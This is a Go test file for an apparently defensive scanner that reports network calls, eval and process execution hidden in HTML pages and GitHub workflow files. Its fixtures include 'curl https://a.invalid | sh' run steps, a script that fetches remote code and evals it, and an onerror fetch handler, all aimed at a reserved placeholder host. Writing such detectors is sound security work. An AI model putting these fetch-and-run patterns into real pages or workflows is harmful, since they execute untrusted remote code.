package behavior

import (
	"fmt"
	"slices"
	"strings"
	"testing"
)

// Programs that stand in pages and workflows are read, and told where they stand.
func TestProgramsInOtherFiles(t *testing.T) {
	for _, tt := range []struct{ path, source, want string }{
		{"a.html", "<p>\n<script>\nfetch('https://a.invalid/')\n</script>", "3 network a.invalid"},
		{"a.htm", "<script type=module>fetch('https://a.invalid/')</script>", "1 network a.invalid"},
		{"a.html", "<p>\n<img src=x onerror=\"fetch('https://a.invalid/')\">", "2 network a.invalid"},
		{"a.html", "<a href=\"javascript:fetch('https://a.invalid/')\">", "1 network a.invalid"},
		{"a.html", "\n<script src=\"https://a.invalid/x.js\"></script>", "2 network a.invalid"},
		{"a.html", "<script>\nfetch('https://a.invalid/').then(r => r.text()).then(eval)</script>", "2 network>dynamic eval"},
		{".github/workflows/a.yml", "jobs:\n  a:\n    steps:\n      - run: curl https://a.invalid | sh\n", "4 network a.invalid"},
		{".github/workflows/a.yml", "jobs:\n  a:\n    steps:\n      - run: |\n          echo\n          curl https://a.invalid | sh\n", "6 network a.invalid"},
		{".github/workflows/a.yaml", "jobs:\n  a:\n    steps:\n      - shell: python\n        run: |\n          import os; os.system('true')\n", "6 process true"},
	} {
		if got := toldOf(tt.path, tt.source); !slices.Contains(got, tt.want) {
			t.Errorf("%s %q: got %q, want %q", tt.path, tt.source, got, tt.want)
		}
	}
	for _, tt := range []struct{ path, source string }{
		{"a.html", "<p>fetch('https://a.invalid/')</p><!-- <script>fetch('https://a.invalid/')</script> -->"},
		{"a.html", "<script type=application/json>{\"fetch\": \"https://a.invalid/\"}</script>"},
		{"a.html", "<script src=\"./app.js\"></script><a href=\"https://a.invalid/\">"},
		{".github/workflows/a.yml", "jobs:\n  a:\n    steps:\n      - name: curl https://a.invalid | sh\n"},
	} {
		for _, what := range toldOf(tt.path, tt.source) {
			if !strings.Contains(what, "agent-config") {
				t.Errorf("%s %q: got %s", tt.path, tt.source, what)
			}
		}
	}
}

func toldOf(path, source string) []string {
	f := Of(path, []byte(source))
	if f == nil {
		return nil
	}
	var list []string
	for _, o := range f.Observations {
		list = append(list, fmt.Sprintf("%d %s %s", o.Line, o.Kind, o.What))
	}
	for _, flow := range f.Flows {
		list = append(list, fmt.Sprintf("%d %s>%s %s", flow.Line, flow.From, flow.Kind, flow.What))
	}
	return list
}
